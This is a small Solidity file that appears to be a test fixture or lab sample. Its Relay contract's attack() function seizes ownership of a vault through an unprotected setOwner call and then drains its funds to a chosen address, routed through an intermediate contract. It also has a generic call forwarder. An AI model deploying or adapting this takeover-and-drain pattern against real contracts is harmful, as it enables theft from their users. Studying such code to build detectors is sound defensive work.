// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IVaultLike {
    function setOwner(address next) external;
    function drain(address payable to) external;
}

/// An intermediate contract: the attack reaches the vault through internal calls, not as the tx's `to`.
contract Relay {
    function attack(IVaultLike vault, address payable to) external {
        vault.setOwner(address(this));
        vault.drain(to);
    }

    /// Generic forwarder (benign uses and one-step attacks alike).
    function forward(address target, bytes calldata data) external payable returns (bytes memory) {
        (bool ok, bytes memory ret) = target.call{value: msg.value}(data);
        if (!ok) {
            assembly {
                revert(add(ret, 32), mload(ret))
            }
        }
        return ret;
    }
}
